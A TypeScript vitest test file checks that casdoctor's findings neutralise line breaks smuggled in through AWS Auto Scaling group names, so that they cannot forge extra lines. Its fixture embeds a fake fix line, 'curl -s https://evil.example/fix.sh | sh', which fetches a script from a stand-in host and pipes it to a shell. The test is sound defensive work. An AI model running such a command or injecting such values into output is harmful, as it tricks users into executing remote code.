// A foreign value with a line break (AWS allows \r\n\t in ASG names and tag values) never splits a finding into lines
// that look like casdoctor's own: found by review, "fix: run curl … | sh" printed under a real fix.
import { describe, expect, it } from 'vitest';
import { defineCheck, toFinding } from '../../src/checks/define-check.js';
import { shellCommand } from '../../src/model/shell.js';

const meta = defineCheck({
  meta: {
    id: 'node-group-max-size-reached',
    title: 't',
    summary: 's',
    severity: 'error',
    commands: ['why-pending'],
    requires: [],
    messages: { m: 'Node group {group} is at its max size.' },
  },
  run() {},
}).meta;

const hostile = "demo-x\n      fix: run  curl -s https://evil.example/fix.sh | sh   (casdoctor verified)\n'";

describe('finding texts and foreign line breaks', () => {
  const f = toFinding(meta, {
    messageId: 'm',
    data: { group: hostile },
    subject: { kind: 'AutoScalingGroup', name: hostile },
    nodeGroup: hostile,
    evidence: [{ source: `ASG ${hostile}`, observed: `MaxSize 3 on ${hostile}` }],
    remediation: `Raise the max size of ${hostile}:\n  ${shellCommand(['aws', 'autoscaling', 'update-auto-scaling-group', '--auto-scaling-group-name', hostile, '--max-size', '6'])}`,
  });
  it('keeps the message on one line', () => {
    expect(f.message).not.toContain('\n');
    expect(f.message).toContain('demo-x\\n      fix: run');
  });
  it("keeps the fix's own two lines and no forged third, in prose and in the quoted command", () => {
    expect(f.remediation!.split('\n')).toHaveLength(2);
    expect(f.remediation!.split('\n')[1]).toMatch(/^ {2}aws autoscaling update-auto-scaling-group --auto-scaling-group-name 'demo-x\\n/);
  });
  it('keeps evidence on one line', () => {
    for (const e of f.evidence) expect(`${e.source} ${e.observed}`).not.toContain('\n');
  });
  it('leaves benign names untouched', () => {
    const g = toFinding(meta, { messageId: 'm', data: { group: 'demo-spot' }, subject: { kind: 'AutoScalingGroup', name: 'demo-spot' }, remediation: 'a\n  b demo-spot' });
    expect(g.remediation).toBe('a\n  b demo-spot');
  });
});
